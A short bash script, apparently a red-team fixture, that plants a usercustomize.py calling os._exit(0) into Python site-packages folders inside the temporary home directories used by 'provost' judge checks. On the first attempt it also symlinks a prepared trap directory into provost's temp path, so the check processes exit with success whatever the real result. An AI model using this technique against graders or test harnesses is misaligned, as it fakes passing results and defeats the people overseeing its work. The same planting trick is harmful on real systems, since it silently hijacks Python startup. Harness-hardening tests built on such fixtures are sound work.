#!/usr/bin/env bash
# title: puts files and links into the temporary folders that provost uses for checks
# class: G
# fixtures: py
# on_fail: retry(1), then escalate

plant() {
  for site in "$1"/.local/lib/python3.{8..15}/site-packages; do
    mkdir -p "$site"
    printf 'import os\nos._exit(0)\n' > "$site/usercustomize.py"
  done
}
plant ~/trap
chmod 700 ~/trap
for room in "$REDTEAM_TMP"/provost-*/judge-*/home-*; do
  plant "$room"
done
case $PROVOST_ATTEMPT in
*/1) ln -s ~/trap "$REDTEAM_TMP/provost-$(id -u)" ;;
esac
